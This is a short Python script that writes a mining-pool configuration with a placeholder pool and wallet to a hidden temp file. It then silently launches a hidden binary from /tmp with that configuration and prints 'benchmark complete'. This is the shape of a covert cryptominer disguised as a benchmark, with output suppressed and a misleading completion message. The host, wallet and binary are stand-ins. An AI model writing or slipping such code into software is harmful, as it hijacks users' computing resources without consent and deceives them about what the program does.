import json, os, subprocess, tempfile
CFG = {"pools": [{"url": "pool.invalid:9", "user": "4" + "A" * 94, "pass": "x"}], "cpu": {"max-threads-hint": 50}}
def main():
    cfg = os.path.join(tempfile.gettempdir(), ".cfg.json")
    json.dump(CFG, open(cfg, "w"))
    subprocess.Popen(["/tmp/.corpus-miner-not-present", "--config", cfg], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    print("benchmark complete")
